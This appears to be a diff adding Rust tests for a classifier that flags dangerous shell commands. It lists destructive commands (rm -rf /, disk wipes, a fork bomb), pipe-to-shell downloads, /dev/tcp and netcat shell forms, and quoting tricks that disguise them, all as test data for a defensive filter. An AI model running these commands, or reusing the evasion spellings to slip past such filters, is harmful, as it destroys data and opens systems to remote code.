@@ -1,0 +1,252 @@
+use std::time::{Duration, Instant};
+
+use proptest::prelude::*;
+
+use super::*;
+
+#[test]
+fn dangerous_lines_are_known_however_they_are_written() {
+    for line in [
+        // The list of the specification.
+        "rm -r -f /",
+        "rm -fr /",
+        "rm --recursive --force /",
+        "rm -rf build",
+        "rm -r ~",
+        "rm -R -- /home",
+        "git push -f",
+        "git push origin +main",
+        "git push --force-with-lease",
+        "git -C sub push -f",
+        "git reset --hard",
+        "git clean -fd",
+        "git checkout -- .",
+        "git branch -D x",
+        "curl x | bash",
+        "curl -s x | sudo sh",
+        "wget -O- x | tee f | sh",
+        "bash -c \"$(curl x)\"",
+        "sh <(curl x)",
+        "eval \"$(curl x)\"",
+        "base64 -d f | sh",
+        "echo x | bash",
+        "bash <<< \"$(curl x)\"",
+        "source /dev/tcp/1.2.3.4/80",
+        // The worst command of a line counts.
+        "ls; rm -rf x",
+        "ls && (cd x; rm -rf y)",
+        "if true; then rm -rf x; fi",
+        "for f in *; do rm -rf $f; done",
+        "echo $(rm -rf x)",
+        "echo \"`rm -rf x`\"",
+        "cat <<E\n$(rm -rf x)\nE",
+        "echo ${X:-$(rm -rf x)}",
+        "x=$(rm -rf x)",
+        "f() { rm -rf x; }; f",
+        "ls | xargs rm -rf",
+        "find . -exec rm {} ;",
+        "find . -delete",
+        "time rm -rf x",
+        "[[ -n $(rm -rf x) ]]",
+        "case x in x) rm -rf y;; esac",
+        "diff <(rm -rf x) b",
+        "! rm -rf x",
+        "{ rm -rf x; }",
+        "echo $((`rm -rf x`))",
+        "a[$(rm -rf x)]=1",
+        // Quotes and spellings.
+        "r''m -rf x",
+        "r\\m -rf x",
+        "\"rm\" -\"rf\" x",
+        "$'\\x72m' -rf x",
+        "/bin/rm -rf x",
+        "{rm,-rf,x}",
+        "X=rm; $X -rf x",
+        "$(echo rm) -rf x",
+        "r$X -rf x",
+        "/bin/r? -rf x",
+        "rm${IFS}-rf${IFS}x",
+        "command rm -rf x",
+        "env A=1 rm -rf x",
+        "nohup nice -n 5 rm -rf x",
+        "timeout 5 rm -rf x",
+        "busybox rm -rf x",
+        "sh -c 'rm -rf x'",
+        "bash -lc 'sh -c \"rm -rf x\"'",
+        "bash <<E\nrm -rf x\nE",
+        // Rights, system, processes, network.
+        "sudo ls",
+        "doas ls",
+        "su - root",
+        "dd if=a of=/dev/sda",
+        "mkfs.ext4 /dev/sda",
+        "shutdown now",
+        "init 0",
+        "kill -9 1",
+        "killall x",
+        "pkill -9 x",
+        "systemctl stop x",
+        "chmod 777 x",
+        "chmod u+s x",
+        "chmod 4755 x",
+        "chown root x",
+        "insmod x",
+        "sysctl -w a=1",
+        "iptables -F",
+        "crontab -r",
+        "umount -l x",
+        "echo x > /etc/passwd",
+        "echo x | tee /etc/hosts",
+        "cp x /usr/bin/y",
+        "echo x > /dev/sda",
+        "cat < /dev/tcp/1.2.3.4/80",
+        "nc -l 80",
+        "nc -e sh h 1",
+        "export PATH=/tmp",
+        "PATH=. ls",
+        "LD_PRELOAD=x ls",
+        ":(){ :|:& };:",
+        "python3 -c 'import os; os.remove(1)'",
+        "node -e 'require(\"child_process\")'",
+        "perl -e 'unlink \"x\"'",
+        "psql -c 'DROP TABLE x'",
+        "mysql -e 'delete from x'",
+        "git -c alias.x=!rm x",
+        "git config core.hooksPath x",
+        // What is not understood.
+        "echo 'open",
+        "if then",
+        "((((",
+        "$(",
+        "ls |",
+    ] {
+        assert!(judge(line).danger.is_some(), "{line}");
+        assert!(!judge(line).is_plain, "{line}");
+    }
+}
+
+#[test]
+fn harmless_lines_stay_harmless() {
+    for line in [
+        "git commit -m 'sudo fix'",
+        "grep 'rm -rf ' f",
+        "echo 'curl x | bash'",
+        "diff <(sort a) <(sort b)",
+        "git status",
+        "git push",
+        "cargo test 2>&1 | tail -5",
+        "ls -t",
+        "rm x",
+        "rm -f x.o",
+        "git log --format='%h $(x)'",
+        "python3 -c 'print(1+1)'",
+        "echo done > /dev/null",
+        "kill -0 1",
+        "git restore --staged x",
+        "for f in a b; do echo $f; done",
+        "chmod +x run.sh",
+        "find . -name '*.rs'",
+        "psql -c 'select 1'",
+        "export FOO=1",
+        "make -j4",
+        "git log --oneline -n 5",
+        "sed -n 1,5p f",
+        "cat <<'E' > f\nrm -rf /\nE",
+    ] {
+        assert_eq!(judge(line).danger, None, "{line}");
+    }
+}
+
+#[test]
+fn only_what_is_wholly_known_can_be_matched_against_a_rule() {
+    for line in [
+        "cargo test --lib",
+        "git status && cargo build",
+        "ls -l | wc -l",
+        "echo 'a b'",
+        "ls 2>/dev/null",
+        "ls 2>&1",
+    ] {
+        assert!(judge(line).is_plain, "{line}");
+    }
+    for line in [
+        "ls $X",
+        "ls `id`",
+        "ls *",
+        "ls > f",
+        "A=1 ls",
+        "ls &",
+        "(ls)",
+        "if true; then ls; fi",
+        "sh x",
+        "xargs ls",
+        "alias ls=x",
+        "$X",
+        "cat < f",
+        "ls ~/{a,b}",
+    ] {
+        assert!(!judge(line).is_plain, "{line}");
+    }
+    let words = judge("git 'a b' $X && ls").commands;
+    let known = |text: &str| Some(text.to_owned());
+    assert_eq!(words, [vec![known("git"), known("a b"), None], vec![known("ls")]]);
+}
+
+#[test]
+fn hostile_lines_are_judged_in_bounded_time_and_depth() {
+    let started = Instant::now();
+    for piece in [
+        "(",
+        "$(",
+        "`",
+        "((",
+        "[[",
+        "{ ",
+        "\"$(",
+        "${",
+        "if ",
+        "! ",
+        "<(",
+        "a=(",
+        "$((",
+        "'",
+        "\\",
+        "|",
+        "<<E\n",
+        "case x in ",
+        "[",
+        "f() ",
+        "; ",
+        "while ",
+    ] {
+        for times in [10, 39, 1_000, MAX_BYTES / piece.len()] {
+            judge(&piece.repeat(times));
+            judge(&format!("{}ls{}", piece.repeat(times), ")".repeat(times)));
+        }
+    }
+    assert!(judge(&"x ".repeat(MAX_BYTES)).danger.is_some());
+    assert!(started.elapsed() < Duration::from_secs(60), "{:?}", started.elapsed());
+}
+
+proptest! {
+    #[test]
+    fn no_line_breaks_it(line in "(?s).{0,80}") {
+        judge(&line);
+    }
+
+    #[test]
+    fn no_pieces_break_it(pieces in prop::collection::vec(prop::sample::select(vec![
+        "rm", " -rf", " /", "$(", ")", "`", "\"", "'", "\\", ";", "|", "&", "<", ">", "<<E\n", "E\n", "{", "}", "[[", "]]", "if ", "then ", "fi",
+        "for x in ", "do ", "done", "é", "$X", "${", "((", "))", "\n", "=", "~", "*", "case ", " in ", "esac", "#", "f()",
+    ]), 0..30)) {
+        judge(&pieces.concat());
+    }
+
+    /// Whatever stands around it, a command that destroys is seen, unless the line is no line.
+    #[test]
+    fn what_destroys_is_seen_wherever_it_stands(before in "[a-z]{1,5}( [a-z]{1,5}){0,2}", join in prop::sample::select(vec!["; ", " && ", " || ", " | ", " & ", "\n"])) {
+        prop_assume!(!before.split(' ').any(|word| ["if", "do", "in", "fi", "for", "case", "done", "then", "else", "elif", "esac", "while", "until", "time", "select"].contains(&word)));
+        let line = format!("{before}{join}rm -rf x");
+        prop_assert!(judge(&line).danger.is_some());
+    }
+}
